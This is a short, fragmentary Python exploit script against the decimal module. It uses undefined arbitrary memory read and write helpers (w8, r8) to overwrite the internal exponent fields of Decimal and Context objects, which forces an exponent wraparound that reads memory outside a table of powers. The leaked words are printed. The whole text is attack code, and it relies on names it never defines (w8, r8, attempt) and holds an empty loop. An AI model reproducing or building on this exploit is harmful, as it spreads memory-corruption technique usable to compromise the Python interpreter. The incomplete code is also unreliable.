# The exponents of two decimals are so far apart that their difference wraps; it indexes a table of powers.
import decimal
from decimal import Decimal as D
c = decimal.Context(prec=60)
for i in range(4, 80, 8):
    pass
def peek(k):
    "The word k words before kLimbPowers."
    a, b = D("1.0"), D("0.0")
    w8(id(a) + 16, 1); w8(id(b) + 16, 0)
    w8(id(a) + 8, (1 << 63) - k)
    w8(id(b) + 8, 1 << 63)
    r = c.add(a, b)
    return r8(id(r) + 16)
# Context: precision, maximum, minimum at +8
print([hex(r8(id(c) + 8 * i)) for i in range(8)])
w8(id(c) + 24, 1 << 63)            # Emin
w8(id(c) + 16, (1 << 63) - 1)
print([hex(peek(k)) for k in range(1, 40)])
if attempt % 2: print(hex(peek(1 << 40)))
